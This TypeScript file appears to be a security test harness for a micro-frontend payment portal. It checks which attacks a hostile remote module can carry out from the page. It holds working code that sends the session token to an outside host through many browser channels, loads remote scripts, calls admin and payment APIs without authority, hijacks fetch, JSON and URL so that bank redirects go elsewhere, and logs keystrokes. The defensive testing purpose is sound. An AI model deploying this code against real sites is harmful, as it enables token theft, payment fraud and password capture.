/** What a remote tried: `no` and why, or `yes`. */
export type Outcome = string;

/** Addresses of the site that a hostile remote sends to. */
export interface Elsewhere {
  /** Answers everything; the path says by which attempt it was reached. */
  readonly url: string;
  /** Takes connections of WebRTC, and says nothing. */
  readonly relay: string;
}

/** What a remote with its own code on the page's origin did not get, and what it did: docs/hostile-remote.md says the same. */
export const couldNot = [
  'read the session cookie',
  'run text as code',
  'compile WebAssembly',
  'write HTML into the page',
  'make the policy of the sanitiser its own',
  'replace a function of React for the pages of others',
  'reach what loads remotes',
  "reach the bundler's modules of the shell and of other remotes",
  'lay a page ready for a remote that is loaded later',
  'stand in for a remote that is loaded later',
  'add an inline script',
  'load a script from elsewhere',
  'import a module from elsewhere',
  'start a worker of its own text',
  'send by fetch',
  'send by XMLHttpRequest',
  'send by beacon',
  'send by form',
  'send by form to another window',
  'send by image',
  'send by style sheet',
  'send by font',
  'send by video',
  'send by object',
  'send by frame',
  'send by fetching ahead',
  'send by the ping of a link',
  'send by WebSocket',
  'send by event source',
  'move the base of addresses',
  "read another customer's debt",
  "read another customer's plan",
  'list all customers',
  'make an administrator',
  'change the contact data',
  'change the password',
  'pay another sum than is due',
  'have the bank lead back to another site',
  'publish a release',
  'switch a remote off',
  "replace the bank's address of a payment",
  'read a password that is typed where its code never ran',
] as const;
export const could = [
  'read the token of the page',
  'read what its own person may read',
  'read the DOM of the shell',
  'replace fetch for what comes later',
  'read a password that is typed after it, in the same document',
  'send by WebRTC',
  'send by a new window',
  'send by taking the page to another site',
] as const;

/**
 * What a hostile remote tries from its own code, once its page stands there. It is built into a release as text, so it
 * stands alone: no imports, browser only. `other` is a national ID of another person, `react` what the shell shares
 * under that name. What arrives elsewhere is seen there alone: such an attempt answers "no" where it cannot know.
 */
export async function tryEverything(
  { url: elsewhere, relay }: Elsewhere,
  other: string,
  react: Record<string, unknown>,
): Promise<Record<string, Outcome>> {
  const outcomes: Record<string, Outcome> = {};
  const withinTimeout = <T>(promise: Promise<T>): Promise<T> =>
    Promise.race([
      promise,
      new Promise<never>((_, fail) => setTimeout(() => fail(new Error('no answer')), 4_000)),
    ]);
  const attempt = async (name: string, act: () => unknown): Promise<void> => {
    try {
      const result = await withinTimeout(Promise.resolve(act()));
      outcomes[name] = typeof result === 'string' ? result : 'yes';
    } catch (error) {
      outcomes[name] = `no: ${(error as Error).name}`;
    }
  };
  const loaded = (element: HTMLElement, place: HTMLElement = document.body): Promise<unknown> =>
    new Promise((done, fail) => {
      element.onload = done;
      element.onerror = () => fail(new Error('error'));
      place.append(element);
    });
  const made = (tag: string, fields: object): HTMLElement =>
    Object.assign(document.createElement(tag), fields);
  const token = localStorage.getItem('session_token') ?? '';
  /** A call as the portal itself makes it: the cookie goes along by itself. */
  const call = async (method: string, path: string, body?: unknown): Promise<string> => {
    const answer = await fetch(path, {
      method,
      headers: {
        authorization: `Token ${token}`,
        ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        'idempotency-key': crypto.randomUUID(),
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const { code = '', status = '' } = (await answer.json().catch(() => ({}))) as Record<string, string>;
    return answer.ok && status !== 'Fail' ? 'yes' : `no: ${answer.status} ${code}`;
  };
  const unsafe = globalThis as unknown as Record<string, (text: string) => unknown>;

  await attempt('read the session cookie', () =>
    /(?:^|; )(?:__Host-)?session=/.test(document.cookie) ? 'yes' : 'no: not there',
  );
  await attempt('run text as code', () => unsafe['eval']?.('1'));
  await attempt('compile WebAssembly', () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),
  );
  await attempt('write HTML into the page', () => {
    document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
  });
  await attempt('make the policy of the sanitiser its own', () => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy('dompurify', { createHTML: (html: string) => html });
  });
  await attempt('replace a function of React for the pages of others', () => {
    react['useState'] = () => ['hostile', () => {}];
  });
  await attempt('reach what loads remotes', () => {
    const { __FEDERATION__: federation, __GLOBAL_LOADING_REMOTE_ENTRY__: entries } =
      globalThis as unknown as {
        __FEDERATION__: { __INSTANCES__: readonly unknown[]; __SHARE__: object };
        __GLOBAL_LOADING_REMOTE_ENTRY__: object;
      };
    const reached = [federation.__INSTANCES__, federation.__SHARE__, entries].flatMap((one) =>
      Object.keys(one),
    );
    return reached.length > 0 ? `yes: ${reached.join(' ')}` : 'no: empty';
  });
  const { remotes } = JSON.parse(document.getElementById('portal-set')?.textContent ?? '') as {
    remotes: readonly { readonly container: string }[];
  };
  const others = remotes.map(({ container }) => container);
  const reachedBy = (names: readonly string[]): string[] => {
    const reached: string[] = [];
    for (const name of names) {
      const list = (globalThis as unknown as Record<string, { push(piece: unknown): void } | undefined>)[
        `rspackChunk${name}`
      ];
      list?.push([[`hostile-${name}`], {}, () => reached.push(name)]);
    }
    return reached;
  };
  await attempt("reach the bundler's modules of the shell and of other remotes", () => {
    const reached = reachedBy(['portal_shell', ...others]);
    return reached.length > 0 ? `yes: ${reached.join(' ')}` : 'no: none';
  });
  await attempt('lay a page ready for a remote that is loaded later', () => {
    for (const name of others) Object.assign(globalThis, { [`rspackChunk${name}`]: [] });
  });
  await attempt('stand in for a remote that is loaded later', () => {
    const hostile = { init: () => {}, get: async () => () => ({ default: () => 'hostile' }) };
    const replaced = others.filter((name) => {
      const before = (globalThis as unknown as Record<string, unknown>)[name];
      Object.assign(globalThis, { [name]: hostile });
      return (globalThis as unknown as Record<string, unknown>)[name] !== before;
    });
    return replaced.length > 0 ? `yes: ${replaced.join(' ')}` : 'no: none';
  });
  await attempt('add an inline script', () => {
    const script = document.createElement('script');
    script.text = 'window.ranInline = true';
    document.body.append(script);
    return 'ranInline' in window ? 'yes' : 'no: not run';
  });
  await attempt('load a script from elsewhere', () => loaded(made('script', { src: `${elsewhere}/s.js` })));
  await attempt(
    'import a module from elsewhere',
    () => import(/* webpackIgnore: true */ `${elsewhere}/m.js`),
  );
  await attempt('start a worker of its own text', () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
    return new Promise((done, fail) => {
      worker.onmessage = done;
      worker.onerror = () => fail(new Error('error'));
    });
  });
  /** An attempt to send, to an address that names it. */
  const send = (name: string, act: (address: string) => unknown): Promise<void> =>
    attempt(name, () => act(`${elsewhere}/${encodeURIComponent(name)}?d=${token}`));
  const answered = (by: EventTarget, success: string): Promise<unknown> =>
    new Promise((done, fail) => {
      by.addEventListener(success, done);
      by.addEventListener('error', () => fail(new Error('error')));
    });
  const unknown = (): string => 'no: seen where it arrives';
  await send('send by fetch', (address) => fetch(address, { mode: 'no-cors' }));
  await send('send by XMLHttpRequest', (address) => {
    const request = new XMLHttpRequest();
    request.open('GET', address);
    request.send();
    return answered(request, 'load');
  });
  await send('send by beacon', (address) => {
    navigator.sendBeacon(address, token);
    return unknown();
  });
  for (const [name, target] of [
    ['send by form', '_self'],
    ['send by form to another window', '_blank'],
  ] as const)
    await send(name, (address) => {
      const form = made('form', { action: address, method: 'post', target }) as HTMLFormElement;
      form.append(made('input', { name: 'd', value: token }));
      document.body.append(form);
      form.submit();
      return unknown();
    });
  await send('send by image', (address) => loaded(made('img', { src: address })));
  await send('send by style sheet', (address) =>
    loaded(made('link', { rel: 'stylesheet', href: address }), document.head),
  );
  await send('send by font', (address) => new FontFace('hostile', `url("${address}")`).load());
  await send('send by video', (address) => {
    const video = made('video', { src: address });
    document.body.append(video);
    return answered(video, 'loadeddata');
  });
  await send('send by object', (address) => loaded(made('object', { data: address, type: 'text/html' })));
  // A frame that may not load says that it has loaded: what arrives decides.
  await send('send by frame', (address) => {
    document.body.append(made('iframe', { src: address }));
    return unknown();
  });
  await send('send by fetching ahead', (address) =>
    loaded(made('link', { rel: 'prefetch', href: address }), document.head),
  );
  await send('send by the ping of a link', (address) => {
    const link = made('a', { href: '#hostile', ping: address });
    document.body.append(link);
    link.click();
    return unknown();
  });
  await send('send by WebSocket', (address) =>
    answered(new WebSocket(address.replace('http', 'ws')), 'open'),
  );
  await send('send by event source', (address) => answered(new EventSource(address), 'open'));
  await attempt('send by WebRTC', async () => {
    const server = { urls: `turn:${relay}?transport=tcp`, username: token || 'd', credential: 'd' };
    const connection = new RTCPeerConnection({ iceServers: [server] });
    connection.createDataChannel('d');
    await connection.setLocalDescription(await connection.createOffer());
    return unknown();
  });
  await send('send by a new window', (address) => {
    window.open(address);
    return unknown();
  });
  await attempt('move the base of addresses', () => {
    document.head.append(made('base', { href: `${elsewhere}/` }));
    return document.baseURI.startsWith(elsewhere) ? 'yes' : 'no: not taken';
  });
  await attempt("read another customer's debt", () => call('GET', `/api/punishedPortfolio/${other}`));
  await attempt("read another customer's plan", () => call('GET', `/api/paymentPlan/${other}/E200002`));
  await attempt('list all customers', () => call('GET', '/api/userList?page=1&trx_by_page=10'));
  await attempt('make an administrator', () =>
    call('POST', '/api/adminUsers', {
      ...{ id: 0, fiscal_number: '9898989898', first_name: 'x', last_name: 'y', email: 'x@y.example' },
      ...{ phone: '3005550000', password: 'Hostil2026*', perfil_id: 2, status: 'ACTIVE' },
    }),
  );
  await attempt('change the contact data', async () => {
    const profile = (await (
      await fetch('/api/dataResponse', { headers: { authorization: `Token ${token}` } })
    ).json()) as Record<string, unknown> & { version: string };
    const { home_phone, address, version } = profile;
    return call('POST', '/api/dataResponse', {
      ...{ email: 'hostil@correo.example', phone: '3009999999', home_phone, address, version },
    });
  });
  await attempt('change the password', () =>
    call('POST', '/api/changePassword', {
      ...{ last_password: 'Adivinada2026*', password_1: 'Hostil2026*x', password_2: 'Hostil2026*x' },
    }),
  );
  await attempt('pay another sum than is due', async () => {
    const { invoices = [] } = (await (
      await fetch('/api/invoices', { headers: { authorization: `Token ${token}` } })
    ).json()) as { invoices?: { invoice: string }[] };
    const invoice = invoices[0]?.invoice ?? 'E100001';
    const line = { invoice, interests_mora: 0, amount_without_mora: 1, total_payment: 1, marca: 'Y' };
    return call('POST', '/api/pay_invoices', {
      ...{ error_marca: false, fiscal_number: '1010101010', invoices: [invoice], invoices_to_pay: [line] },
      ...{ total_amount: 1, payment_method: 'PSE', login: true },
      extra_properties: { bankcode: '1007', bankname: 'x', sales_person: '' },
    });
  });
  await attempt('have the bank lead back to another site', () =>
    call('POST', '/api/pay_invoices', {
      ...{ error_marca: false, fiscal_number: '1010101010', invoices: [], invoices_to_pay: [] },
      ...{ total_amount: 0, payment_method: 'PSE', login: true, bank_url: elsewhere, return_url: elsewhere },
      extra_properties: { bankcode: '1007', bankname: 'x', sales_person: '', bank_url: elsewhere },
    }),
  );
  await attempt('publish a release', () => call('POST', '/registry/releases', {}));
  await attempt('switch a remote off', () => call('POST', '/registry/operations', {}));

  await attempt('read the token of the page', () => (token === '' ? 'no: not there' : 'yes'));
  await attempt('read what its own person may read', () => call('GET', '/api/summary'));
  await attempt('read the DOM of the shell', () => {
    if (!document.querySelector('header')) throw new Error('no header');
  });
  await attempt('replace fetch for what comes later', () => {
    const { fetch: original } = window;
    window.fetch = (...given) => original(...given);
    window.fetch = original;
  });
  return outcomes;
}

/**
 * Replaces, again and again, what the way to the bank goes through, so that it would lead elsewhere: what asks, what reads
 * the answer and what makes an address of it. Built into a release as text, like the above.
 */
export function replaceWhatLeadsToTheBank(elsewhere: string): void {
  const hostile = `${elsewhere}/${encodeURIComponent("replace the bank's address of a payment")}`;
  const { URL: Address, fetch: ask, JSON: text } = window;
  const { parse, stringify } = text;
  const { json } = Response.prototype;
  /** The reply with another address in it. */
  const altered = (reply: unknown): unknown => {
    const written = stringify(reply);
    return written?.includes('"bank_url":"http')
      ? parse(written.replace(/"bank_url":"[^"]*"/, `"bank_url":"${hostile}"`))
      : reply;
  };
  const replace = (): void => {
    window.fetch = async (...given) => {
      const answer = await ask(...given);
      return Object.assign(answer, { json: async () => altered(await json.call(answer)) });
    };
    Response.prototype.json = async function () {
      return altered(await json.call(this));
    };
    JSON.parse = (written, reviver) => altered(parse(written, reviver));
    const { href } = Object.getOwnPropertyDescriptors(Address.prototype);
    window.URL = class extends Address {
      override get href() {
        const real = href.get?.call(this) as string;
        return real.startsWith(location.origin) ? real : hostile;
      }
    } as typeof URL;
    XMLHttpRequest.prototype.open = () => {};
  };
  replace();
  setInterval(replace, 5);
}

/** Writes down whatever is typed into the document from now on. Built into a release as text, like the above. */
export function writeDownWhatIsTyped(): void {
  document.addEventListener(
    'input',
    ({ target }) => {
      const typed = (target as HTMLInputElement).value;
      Object.assign(window, { typed: [...((window as unknown as { typed?: string[] }).typed ?? []), typed] });
    },
    true,
  );
}
